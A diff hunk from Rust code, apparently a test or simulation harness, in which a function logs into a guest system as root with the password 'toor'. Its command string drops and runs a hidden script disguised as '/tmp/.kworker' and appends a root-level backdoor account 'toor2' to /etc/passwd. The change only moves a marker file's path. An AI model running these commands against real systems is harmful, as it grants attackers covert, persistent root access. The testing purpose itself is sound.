@@ -152,8 +152,8 @@ fn scan_guess_and_break_in(site: &Site, marker: &str) {
     }
     // The program is put together in the guest, so that the marker is nowhere on the way but in the session's own key stream.
     let deeds = format!(
-        "printf '#!/bin/sh\\necho %s > /root/.cache-run; id\\n' '{marker}' > /tmp/.kworker && chmod +x /tmp/.kworker && /tmp/.kworker \
-         && echo 'toor2:x:0:0::/root:/bin/bash' >> /etc/passwd && sync && cat /root/.cache-run"
+        "printf '#!/bin/sh\\necho %s > /var/tmp/.cache-run; id\\n' '{marker}' > /tmp/.kworker && chmod +x /tmp/.kworker && /tmp/.kworker \
+         && echo 'toor2:x:0:0::/root:/bin/bash' >> /etc/passwd && sync && cat /var/tmp/.cache-run"
     );
     let inside = site.log_in("root", "toor", &deeds);
     let said = String::from_utf8_lossy(&inside.stdout).into_owned();
